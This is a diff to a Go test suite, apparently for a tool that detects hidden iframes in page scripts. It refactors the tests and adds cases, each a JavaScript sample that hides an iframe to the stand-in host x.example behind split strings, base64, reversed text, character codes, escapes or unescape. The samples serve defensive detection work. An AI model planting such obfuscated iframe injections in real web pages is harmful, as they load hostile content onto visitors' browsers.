@@ -56,21 +56,26 @@ func TestFindInScript(t *testing.T) {
 	})
 }
 
-// TestHiddenFrame hides the same frame in each way that is undone.
-func TestHiddenFrame(t *testing.T) {
-	codes := func(format, separator string, shift int) string {
-		var out []string
-		for _, c := range []byte(hidden) {
-			out = append(out, fmt.Sprintf(format, int(c)+shift))
-		}
-		return strings.Join(out, separator)
+// hiding is a script that writes or holds the hidden frame.
+type hiding struct {
+	name, script string
+	inferred     bool
+}
+
+// codes writes the character codes of the hidden frame.
+func codes(format, separator string, shift int) string {
+	var out []string
+	for _, c := range []byte(hidden) {
+		out = append(out, fmt.Sprintf(format, int(c)+shift))
 	}
+	return strings.Join(out, separator)
+}
+
+// hidings are the ways that are undone.
+func hidings() []hiding {
 	backwards := string(reversed([]byte(hidden)))
 	b64 := base64.StdEncoding.EncodeToString([]byte(hidden))
-	for _, tt := range []struct {
-		name, script string
-		inferred     bool
-	}{
+	return []hiding{
 		{"written", `document.write('` + hidden + `')`, false},
 		{"written in pieces", `document.write("<ifr"); document.writeln('ame src="http://x.exam' + "ple/e.php?i=1\"", '>')`, false},
 		{"written with its script", `document.write("<scr"+"ipt>"); document.write("document.write('<iframe src=http://x.example/e.php?i=1>')"); document.write("</sc"+"ript>")`, false},
@@ -99,11 +104,17 @@ func TestHiddenFrame(t *testing.T) {
 		{"base64 for a function of its own", `var k = decode('` + b64 + `')`, true},
 		{"backwards for a function of its own", `decode('` + backwards + `')`, true},
 		{"character codes for a loop", `var n = [` + codes("%d", ",", 0) + `]; for (i = 0; i < n.length; i++) s += String.fromCharCode(n[i])`, true},
-		{"character codes in a literal", `decode("` + codes("%d", ",", 0) + `".split(","))`, true},
+		{"character codes in a literal", `decode("` + codes("%d", ",", 0) + `")`, true},
+		{"character codes split from a literal", `decode("` + codes("%d", ",", 0) + `".split(","))`, true},
+		{"escapes in a literal", `decode("` + codes(`\\x%02x`, "", 0) + `")`, true},
 		{"every character shifted", `decode("` + strings.ReplaceAll(strings.Map(func(r rune) rune { return r + 1 }, hidden), `"`, `\"`) + `")`, true},
 		{"a literal that is HTML", `var h = '` + hidden + `'; show(h)`, true},
 		{"a literal that is script", `later("document.write(unescape('` + codes("%%%02x", "", 0) + `'))")`, true},
-	} {
+	}
+}
+
+func TestHiddenFrame(t *testing.T) {
+	for _, tt := range hidings() {
 		t.Run(tt.name, func(t *testing.T) {
 			want := hiddenLink
 			if tt.inferred {
